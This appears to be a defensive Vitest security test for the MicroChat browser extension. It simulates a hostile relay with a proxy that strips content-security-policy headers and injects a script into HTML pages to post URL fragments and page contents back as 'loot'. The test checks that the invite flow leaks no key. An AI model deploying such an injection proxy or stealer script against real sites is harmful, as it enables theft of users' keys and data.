/**
 * Attack: a hostile relay puts a key-stealing script on every HTML page it
 * serves. Before, an invite was `<relay>/join#i=…&k=…` and people were told to
 * open it: the fragment never reaches the server, but the relay's own page
 * could read it with one script, decrypt the blob it stores, join by external
 * Commit and read the conversation.
 *
 * Here the relay is a real relay process behind a small hostile proxy (the
 * "relay variant"): every text/html answer gets a script that posts
 * location.href and the page back, and any browser navigation to the relay
 * origin (which the real relay answers with a 404) gets such a page too. Two
 * people in real Chromium with the built extension create and join an invite
 * through the documented flow: copy the code from the invite dialog, paste it
 * in the side panel. The relay must learn no key: nothing posted back, no
 * page requested, the key in no request. A control step then opens an
 * old-style link on the relay origin and checks that the stealer does catch
 * a fragment, so "nothing stolen" means the flow, not a broken stealer.
 */
import http from 'node:http';
import net from 'node:net';
import { rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createConversation, createInvite, joinByLink, onboard, openBrowser, STEP_TIMEOUT, type ChatUser } from '../support/chat-driver.ts';
import { screenshot, snapshotExtension } from '../support/extension.ts';
import { startRelay, type RelayProcess } from '../support/relay-process.ts';

const STEALER = `<script>(() => {
  const loot = JSON.stringify({ href: location.href, hash: location.hash, page: document.documentElement.outerHTML.slice(0, 4000) });
  fetch('/__loot', { method: 'POST', body: loot, keepalive: true });
})();</script>`;

interface Seen {
  method: string;
  url: string;
  dest: string;
  accept: string;
  body: string;
}

/** The hostile relay variant: forwards everything to the real relay, and arms every HTML page. */
function hostileProxy(upstreamPort: number): Promise<{ url: string; loot: string[]; seen: Seen[]; close: () => void }> {
  const loot: string[] = [];
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks);
      if (req.url === '/__loot') {
        loot.push(body.toString('utf8'));
        res.writeHead(204).end();
        return;
      }
      const dest = String(req.headers['sec-fetch-dest'] ?? '');
      const accept = String(req.headers.accept ?? '');
      seen.push({ method: req.method ?? '', url: req.url ?? '', dest, accept, body: body.toString('utf8') });
      const up = http.request({ host: '127.0.0.1', port: upstreamPort, method: req.method, path: req.url, headers: req.headers }, (upRes) => {
        const parts: Buffer[] = [];
        upRes.on('data', (c: Buffer) => parts.push(c));
        upRes.on('end', () => {
          const headers = { ...upRes.headers };
          delete headers['content-length'];
          const navigation = dest === 'document' || accept.includes('text/html');
          const html = String(headers['content-type'] ?? '').includes('text/html');
          if (html || (navigation && upRes.statusCode === 404)) {
            // Any page of the relay's origin: its own HTML with the stealer, or a page made up for the occasion.
            delete headers['content-security-policy'];
            const page = html ? Buffer.concat(parts).toString('utf8') : '<!doctype html><title>MicroChat</title><p>Opening MicroChat…</p>';
            res.writeHead(200, { ...headers, 'content-type': 'text/html; charset=utf-8' }).end(page.replace(/<\/body>|$/i, `${STEALER}$&`));
            return;
          }
          res.writeHead(upRes.statusCode ?? 502, headers).end(Buffer.concat(parts));
        });
      });
      up.on('error', () => res.writeHead(502).end());
      up.end(body);
    });
  });
  // WebSockets pass straight through.
  server.on('upgrade', (req, socket, head) => {
    const up = net.connect(upstreamPort, '127.0.0.1', () => {
      const lines = [`${req.method} ${req.url} HTTP/1.1`];
      for (let i = 0; i < req.rawHeaders.length; i += 2) lines.push(`${req.rawHeaders[i]}: ${req.rawHeaders[i + 1]}`);
      up.write(lines.join('\r\n') + '\r\n\r\n');
      up.write(head);
      socket.pipe(up).pipe(socket);
    });
    up.on('error', () => socket.destroy());
    socket.on('error', () => up.destroy());
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as net.AddressInfo;
      resolve({ url: `http://127.0.0.1:${port}`, loot, seen, close: () => server.close() });
    });
  });
}

describe('a hostile relay steals invite keys with a script on its pages', () => {
  let extension: { dir: string; id: string };
  let relay: RelayProcess;
  let proxy: Awaited<ReturnType<typeof hostileProxy>>;
  let alice: ChatUser;
  let bob: ChatUser;

  beforeAll(async () => {
    extension = snapshotExtension();
    relay = await startRelay({ args: ['--extra-rp-ids', `${extension.id},chrome-extension://${extension.id}`] });
    proxy = await hostileProxy(Number(new URL(relay.url).port));
  });
  afterAll(async () => {
    for (const u of [alice, bob]) await u?.ext.close();
    proxy?.close();
    await relay?.stop();
    for (const dir of [alice?.profileDir, bob?.profileDir, extension?.dir]) if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('learns no key while a person creates an invite and another joins through the documented flow', async () => {
    [alice, bob] = await Promise.all([
      openBrowser('Alice', { extensionDir: extension.dir, prf: false }),
      openBrowser('Bob', { extensionDir: extension.dir, prf: false }),
    ]);
    for (const u of [alice, bob]) await onboard(u, proxy.url);
    const conversationId = await createConversation(alice, 'Weekend trip');
    const code = await createInvite(alice, 'one-time', 'security-invite-code-alice');
    expect(code).toMatch(/^microchat:join\?/);
    const params = new URLSearchParams(code.slice(code.indexOf('?') + 1));
    const key = params.get('k')!;
    const inviteId = params.get('i')!;
    expect(key).toMatch(/^[A-Za-z0-9_-]{43}$/);

    expect(await joinByLink(bob, code)).toBe(conversationId);
    await screenshot(bob.page, 'security-invite-joined-bob');
    await new Promise((r) => setTimeout(r, 1000)); // time for any late beacon

    // The join went through the hostile relay...
    expect(proxy.seen.some((r) => r.method === 'GET' && r.url === `/v1/invites/${inviteId}`)).toBe(true);
    // ...which served no page, got nothing back, and saw the key nowhere.
    expect(proxy.loot).toEqual([]);
    expect(proxy.seen.filter((r) => r.dest === 'document' || r.accept.includes('text/html'))).toEqual([]);
    expect(proxy.seen.filter((r) => r.url.includes(key) || r.body.includes(key))).toEqual([]);

    // Control: the stealer works. Today's documented flow opened such a link on the relay origin.
    const canary = 'CANARY0canary0CANARY0canary0CANARY0canary0C';
    const tab = await bob.ext.browser.newPage();
    await tab.goto(`${proxy.url}/join#i=${inviteId}&k=${canary}`, { waitUntil: 'load', timeout: STEP_TIMEOUT });
    const deadline = Date.now() + 10_000;
    while (Date.now() < deadline && !proxy.loot.some((l) => l.includes(canary))) await new Promise((r) => setTimeout(r, 100));
    expect(proxy.loot.some((l) => l.includes(canary))).toBe(true);
    expect(proxy.loot.some((l) => l.includes(key))).toBe(false);
    await tab.close();
  });
});
